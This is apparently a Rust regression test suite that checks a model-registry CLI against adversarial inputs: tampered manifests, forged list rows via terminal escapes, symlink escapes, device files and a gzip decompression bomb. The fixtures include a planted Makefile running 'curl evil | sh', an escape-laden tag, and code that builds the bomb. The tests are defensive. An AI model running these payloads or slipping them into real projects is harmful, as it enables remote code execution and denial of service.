//! Regression tests of issue 31: the defects adversarial testing found in
//! the registry and the loaders, each against the real binary, on a folder
//! registry and (where the defect is not folder-specific) on the S3 server.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use forest2onnx::registry::{sha256_hex, Registry};
use forest2onnx::store::{self, SaveOptions};
use forest2onnx::synth::{self, SynthSpec};

use super::harness::{big_model, ctx, files_in, small_model, Backend, Ctx};

/// The manifest of `NAME/vN` as JSON, for tampering.
fn manifest_of(c: &Ctx, name: &str, version: u64) -> serde_json::Value {
    let key = format!("{name}/v{version}/manifest.json");
    serde_json::from_slice(&c.registry().read_raw(&key).unwrap()).unwrap()
}

fn write_manifest(c: &Ctx, name: &str, version: u64, manifest: &serde_json::Value) {
    let key = format!("{name}/v{version}/manifest.json");
    c.registry()
        .write_raw(&key, serde_json::to_vec_pretty(manifest).unwrap())
        .unwrap();
}

/// Defect 1: a taken v18446744073709551615 makes push refuse, not wrap to v0.
fn version_counter_does_not_wrap(backend: Backend) {
    let Some(c) = ctx(backend, "wrap", false) else {
        return;
    };
    let model = c.model("m.forest");
    assert_eq!(c.push(&model, "m"), 1);
    c.registry()
        .write_raw(
            &format!("m/v{}/claim.json", u64::MAX),
            b"{\"format\": \"forest2onnx-registry-claim\"}".to_vec(),
        )
        .unwrap();
    c.push_fails(&model, "m", "no free version number");
    let listed = c.ok(&["registry", "list", &c.url]);
    assert!(listed.contains("m     v1"), "{listed}");
    assert_eq!(listed.lines().count(), 2, "{listed}");
}

/// Defect 2: a manifest over the readers' 16 MiB limit is refused by push,
/// before any version is claimed.
fn push_refuses_manifests_readers_refuse(backend: Backend) {
    let Some(c) = ctx(backend, "huge-manifest", false) else {
        return;
    };
    let mut forest = synth::forest(&SynthSpec::small());
    forest.n_features = 1_400_000;
    forest.feature_names = Some((0..forest.n_features).map(|i| format!("f{i:07}")).collect());
    let model = c.path("wide.forest");
    std::fs::write(
        &model,
        store::to_bytes(&forest, &SaveOptions::default()).unwrap(),
    )
    .unwrap();
    c.fails(
        &["registry", "push", model.to_str().unwrap(), "--to", &c.url],
        1,
        "the manifest of wide",
    );
    // Nothing claimed, and the registry still lists and verifies.
    let report = c.registry().verify(None).unwrap();
    assert!(
        report.passed() && report.incomplete.is_empty(),
        "{report:?}"
    );
    c.ok(&["registry", "list", &c.url]);
}

/// Defects 3 and 5, and the lock's manifest pin: a pull leaves only the
/// files of the version pulled; a manifest may list only the fixed file
/// roles; rewritten manifest fields fail `--locked` and `verify`.
fn pulls_hold_one_version_of_fixed_files(backend: Backend) {
    let Some(c) = ctx(backend, "fixed-files", false) else {
        return;
    };
    let model = c.model("m.forest");
    let m = model.to_str().unwrap();
    c.ok(&["registry", "push", m, "--to", &c.url, "--onnx"]);
    assert_eq!(c.push(&model, "m"), 2);
    c.ok(&["registry", "pull", &c.url, "m@v1", "-o", "d"]);
    assert_eq!(
        files_in(&c.path("d")),
        ["manifest.json", "model.forest", "model.onnx"]
    );
    c.ok(&["registry", "pull", &c.url, "m", "-o", "d"]);
    assert_eq!(files_in(&c.path("d")), ["manifest.json", "model.forest"]);
    let pulled: serde_json::Value =
        serde_json::from_slice(&std::fs::read(c.path("d/manifest.json")).unwrap()).unwrap();
    assert_eq!(pulled["version"], 2);

    // A manifest listing a file of any other name (defect 5).
    let mut evil = manifest_of(&c, "m", 2);
    let payload = b"all:\n\tcurl evil | sh\n".to_vec();
    evil["files"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "path": "Makefile", "sha256": sha256_hex(&payload), "size": payload.len()
        }));
    c.registry().write_raw("m/v2/Makefile", payload).unwrap();
    write_manifest(&c, "m", 2, &evil);
    std::fs::create_dir(c.path("proj")).unwrap();
    c.fails(
        &["registry", "pull", &c.url, "m@v2", "-o", "proj"],
        1,
        "\"Makefile\" is not an acceptable file name",
    );
    assert!(files_in(&c.path("proj")).is_empty());
    let out = c.run(&["registry", "verify", &c.url, "m"]);
    assert_eq!(out.status.code(), Some(3));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("MISMATCH m v2 manifest.json"), "{text}");

    // Fields rewritten with every file hash intact (the lock's manifest pin).
    let mut evil = manifest_of(&c, "m", 1);
    c.ok(&[
        "registry", "pull", &c.url, "m@v1", "-o", "p1", "--lock", "p.lock",
    ]);
    evil["tags"] = serde_json::json!({"stage": "prod"});
    write_manifest(&c, "m", 1, &evil);
    c.fails(
        &[
            "registry", "pull", &c.url, "m", "-o", "p1", "--lock", "p.lock", "--locked",
        ],
        1,
        "the manifest is pinned with sha256",
    );
    evil["classes"] = serde_json::json!([0, 1, 7]);
    write_manifest(&c, "m", 1, &evil);
    c.fails(
        &[
            "registry", "pull", &c.url, "m", "-o", "p1", "--lock", "p.lock", "--locked",
        ],
        1,
        "the manifest is pinned with sha256",
    );
    let out = c.run(&["registry", "verify", &c.url, "m"]);
    assert_eq!(out.status.code(), Some(3));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("MISMATCH m v1 manifest.json") && text.contains("classes"),
        "{text}"
    );
    let pinned: serde_json::Value =
        serde_json::from_slice(&std::fs::read(c.path("p1/manifest.json")).unwrap()).unwrap();
    assert_eq!(
        pinned["tags"],
        serde_json::json!({}),
        "the tampered manifest was copied"
    );
}

/// Defect 6: parallel pulls of different models sharing one lock file all
/// keep their pins.
fn concurrent_pulls_keep_every_pin(backend: Backend) {
    let Some(c) = ctx(backend, "shared-lock", false) else {
        return;
    };
    let model = c.model("m.forest");
    for i in 0..8 {
        c.push(&model, &format!("m{i}"));
    }
    let (names, dirs): (Vec<String>, Vec<String>) =
        (0..8).map(|i| (format!("m{i}"), format!("out{i}"))).unzip();
    let pulls: Vec<Vec<&str>> = names
        .iter()
        .zip(&dirs)
        .map(|(name, dir)| {
            let lock = ["--lock", "shared.lock"];
            [
                ["registry", "pull", &c.url, name, "-o", dir].as_slice(),
                &lock,
            ]
            .concat()
        })
        .collect();
    c.ok_at_once(&pulls);
    let lock = std::fs::read_to_string(c.path("shared.lock")).unwrap();
    assert_eq!(lock.matches("[[model]]").count(), 8, "{lock}");
}

/// The lock-file URL is normalised, and a lock that cannot be saved leaves
/// the output folder as it was.
fn lock_urls_and_lock_failures(backend: Backend) {
    let Some(c) = ctx(backend, "lock-url", false) else {
        return;
    };
    let model = c.model("m.forest");
    assert_eq!(c.push(&model, "m"), 1);
    c.ok(&["registry", "pull", &c.url, "m", "-o", "d"]);
    let respelled = if backend == Backend::Local {
        "./registry/".to_string()
    } else {
        format!("{}/", c.url.replacen("s3://", "S3://", 1))
    };
    c.ok(&["registry", "pull", &respelled, "m", "-o", "d", "--locked"]);

    assert_eq!(c.push(&model, "m"), 2);
    c.fails(
        &[
            "registry",
            "pull",
            &c.url,
            "m",
            "-o",
            "d",
            "--lock",
            "no/such/dir/x.lock",
        ],
        1,
        "no/such/dir",
    );
    let kept: serde_json::Value =
        serde_json::from_slice(&std::fs::read(c.path("d/manifest.json")).unwrap()).unwrap();
    assert_eq!(
        kept["version"], 1,
        "the folder changed although the lock was not saved"
    );
}

/// `list` escapes tags and strings: newlines and terminal escapes cannot
/// forge rows.
fn list_escapes_strings(backend: Backend) {
    let Some(c) = ctx(backend, "escapes", false) else {
        return;
    };
    let model = c.model("m.forest");
    let tag = "note=ok\nevil  v9  2099-01-01  1 B  forged\x1b[2J";
    c.ok(&[
        "registry",
        "push",
        model.to_str().unwrap(),
        "--to",
        &c.url,
        "--tag",
        tag,
    ]);
    let listed = c.ok(&["registry", "list", &c.url]);
    assert_eq!(listed.lines().count(), 2, "{listed}");
    assert!(!listed.contains('\x1b'), "{listed:?}");
    assert!(listed.contains("note=ok\\nevil"), "{listed}");
}

/// One bad entry (a malformed manifest; for a folder, a symlink loop too)
/// is reported while the rest is listed and verified; the exit status says
/// something was wrong.
fn bad_entries_do_not_hide_the_rest(backend: Backend) {
    let Some(c) = ctx(backend, "bad-entry", false) else {
        return;
    };
    let model = c.model("m.forest");
    assert_eq!(c.push(&model, "good"), 1);
    c.registry()
        .write_raw("broken/v1/manifest.json", b"{not json".to_vec())
        .unwrap();
    if backend == Backend::Local {
        std::os::unix::fs::symlink("loop", Path::new(&c.url).join("loop")).unwrap();
    } else {
        // Keys object_store cannot parse, written with another client.
        put_raw_s3_keys(&c.url, &["x//y", "a/../b"]);
    }
    let out = c.run(&["registry", "list", &c.url]);
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.contains("good  v1"), "{stdout}");
    assert!(stderr.contains("broken v1 manifest.json"), "{stderr}");
    let out = c.run(&["registry", "verify", &c.url]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(3), "{stdout}");
    assert!(
        stdout.contains("MISMATCH broken v1 manifest.json"),
        "{stdout}"
    );
    assert!(stdout.contains("2 versions, 1 files"), "{stdout}");
    c.ok(&["registry", "pull", &c.url, "good", "-o", "g"]);
}

/// Writes `keys` below the S3 registry `url` with boto3 (from the servers'
/// virtualenv, which has it for moto): object_store refuses such keys.
fn put_raw_s3_keys(url: &str, keys: &[&str]) {
    let dvc = super::harness::servers().unwrap()["dvc"].as_str().unwrap();
    let python = Path::new(dvc).with_file_name("python");
    let (bucket, prefix) = url.strip_prefix("s3://").unwrap().split_once('/').unwrap();
    let script = "import boto3, os, sys\n\
        s3 = boto3.client('s3', endpoint_url=os.environ['AWS_ENDPOINT_URL'])\n\
        for key in sys.argv[3:]:\n    \
        s3.put_object(Bucket=sys.argv[1], Key=sys.argv[2] + '/' + key, Body=b'junk')\n";
    let status = Command::new(python)
        .args(["-c", script, bucket, prefix])
        .args(keys)
        .status()
        .unwrap();
    assert!(status.success());
}

macro_rules! suite {
    ($($backend:ident),*) => {$(
        #[allow(non_snake_case)]
        mod $backend {
            use super::*;
            #[test] fn version_counter_does_not_wrap() { super::version_counter_does_not_wrap(Backend::$backend) }
            #[test] fn push_refuses_manifests_readers_refuse() { super::push_refuses_manifests_readers_refuse(Backend::$backend) }
            #[test] fn pulls_hold_one_version_of_fixed_files() { super::pulls_hold_one_version_of_fixed_files(Backend::$backend) }
            #[test] fn concurrent_pulls_keep_every_pin() { super::concurrent_pulls_keep_every_pin(Backend::$backend) }
            #[test] fn lock_urls_and_lock_failures() { super::lock_urls_and_lock_failures(Backend::$backend) }
            #[test] fn list_escapes_strings() { super::list_escapes_strings(Backend::$backend) }
            #[test] fn bad_entries_do_not_hide_the_rest() { super::bad_entries_do_not_hide_the_rest(Backend::$backend) }
        }
    )*};
}

suite!(Local, S3);

/// Defect 4: a pull killed while it downloads over an existing version
/// leaves the folder wholly at the old version, and the next pull removes
/// the killed pull's staging folder.
#[test]
fn killed_pulls_leave_the_old_version_and_no_leftovers() {
    let Some(c) = ctx(Backend::Local, "killed-pull", false) else {
        return;
    };
    let small = c.model("small.forest");
    assert_eq!(c.push(&small, "m"), 1);
    let big = c.path("big.forest");
    std::fs::write(&big, big_model(50)).unwrap();
    assert_eq!(c.push(&big, "m"), 2);
    let mut killed_mid_pull = 0;
    for _ in 0..20 {
        c.ok(&["registry", "pull", &c.url, "m@v1", "-o", "d"]);
        let mut child = c
            .command(&["registry", "pull", &c.url, "m", "-o", "d"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let started = Instant::now();
        while started.elapsed() < Duration::from_secs(20) {
            let staging = files_in(c.dir.path())
                .into_iter()
                .any(|n| n.starts_with(".d.pull-") && !n.ends_with(".lock"));
            if staging {
                break;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        child.kill().unwrap();
        let status = child.wait().unwrap();
        let manifest: serde_json::Value =
            serde_json::from_slice(&std::fs::read(c.path("d/manifest.json")).unwrap()).unwrap();
        let forest = std::fs::read(c.path("d/model.forest")).unwrap();
        assert_eq!(
            manifest["files"][0]["sha256"],
            sha256_hex(&forest),
            "a mix of versions in the folder"
        );
        if !status.success() {
            killed_mid_pull += 1;
            assert_eq!(manifest["version"], 1);
        }
    }
    assert!(killed_mid_pull > 0, "no pull was killed in the middle");
    c.ok(&["registry", "pull", &c.url, "m", "-o", "d"]);
    let left: Vec<String> = files_in(c.dir.path())
        .into_iter()
        .filter(|n| n.starts_with(".d."))
        .collect();
    assert!(left.is_empty(), "leftovers of killed pulls: {left:?}");
    assert_eq!(files_in(&c.path("d")), ["manifest.json", "model.forest"]);
}

/// Folder registries refuse symbolic links, on pull and on push.
#[test]
fn folder_registries_refuse_symlinks() {
    let Some(c) = ctx(Backend::Local, "symlinks", false) else {
        return;
    };
    let model = c.model("m.forest");
    assert_eq!(c.push(&model, "m"), 1);
    let root = Path::new(&c.url);
    // A model file replaced by a link to a file outside the registry whose
    // hash the attacker put in the manifest.
    let outside = c.path("secret.forest");
    std::fs::write(&outside, small_model()).unwrap();
    let file = root.join("m/v1/model.forest");
    std::fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink(&outside, &file).unwrap();
    c.fails(
        &["registry", "pull", &c.url, "m", "-o", "d"],
        1,
        "symbolic link",
    );
    assert!(!c.path("d").exists());
    // A model folder that is a link out of the registry.
    let elsewhere = c.path("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, root.join("n")).unwrap();
    c.push_fails(&model, "n", "symbolic link");
    assert!(
        files_in(&elsewhere).is_empty(),
        "push wrote outside the registry"
    );
}

/// Defect 7: with stderr (or stdout) a closed pipe, the binary exits with
/// its usual status instead of aborting.
#[test]
fn closed_stdout_and_stderr_end_quietly() {
    let run = |args: &[&str], close_stdout: bool| {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_forest2onnx"));
        cmd.args(args);
        if close_stdout {
            cmd.stdout(writer).stderr(Stdio::null());
        } else {
            cmd.stderr(writer).stdout(Stdio::null());
        }
        cmd.status().unwrap()
    };
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nowhere");
    let status = run(&["registry", "list", missing.to_str().unwrap()], false);
    assert_eq!(status.code(), Some(1), "{status:?}");
    let status = run(&["inspect", missing.to_str().unwrap()], false);
    assert_eq!(status.code(), Some(1), "{status:?}");
    let model = dir.path().join("m.forest");
    std::fs::write(&model, small_model()).unwrap();
    let status = run(&["inspect", model.to_str().unwrap()], true);
    assert_eq!(status.code(), Some(0), "{status:?}");
}

/// Runs the binary with `args` under a 2 GiB address-space limit.
fn limited(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 2097152; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_forest2onnx"))
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

/// Defect 8: a link to a device is refused, not read until memory runs out.
#[test]
fn whole_file_reads_refuse_devices() {
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("m.forest")).unwrap();
    std::fs::create_dir(dir.path().join("reg")).unwrap();
    for args in [
        vec!["inspect", "m.forest"],
        vec!["registry", "push", "m.forest", "--to", "reg"],
        vec!["convert", "m.forest", "-o", "m.onnx"],
    ] {
        let out = limited(dir.path(), &args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains("not a regular file"), "{args:?}: {err}");
    }
}

#[cfg(feature = "sklearn")]
/// Defect 9: a 1.5 MB gzip "joblib" file holding one 1.5 GB bytes object
/// (over 1024 times its size) is an error, not an abort, under a memory
/// limit it would exceed.
#[test]
fn decompression_bombs_are_errors() {
    use std::io::Write;
    let gzip = |data: &[u8]| {
        let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        z.write_all(data).unwrap();
        z.finish().unwrap()
    };
    // gzip members concatenate: a pickle header (BINBYTES8 of n bytes),
    // then n zeros in members of 8 MiB.
    let (member, members) = (8u64 << 20, 179);
    let n = member * members;
    let mut bomb = gzip(&[[0x80, 4, 0x8e].as_slice(), &n.to_le_bytes()].concat());
    let zeros = gzip(&vec![0u8; member as usize]);
    for _ in 0..members {
        bomb.extend_from_slice(&zeros);
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("bomb.joblib"), &bomb).unwrap();
    let out = limited(dir.path(), &["inspect", "bomb.joblib"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{} bytes: {err}", bomb.len());
    assert!(
        err.contains("1024") || err.contains("not enough memory"),
        "{err}"
    );
}

/// Bad input to `Registry::open`: the canonical folder is the URL.
#[test]
fn folder_urls_are_canonical() {
    let dir = tempfile::tempdir().unwrap();
    let reg = dir.path().join("reg");
    std::fs::create_dir(&reg).unwrap();
    let relative = Registry::open(&format!("{}/./", reg.display())).unwrap();
    assert_eq!(
        relative.url(),
        std::fs::canonicalize(&reg).unwrap().to_str().unwrap()
    );
}
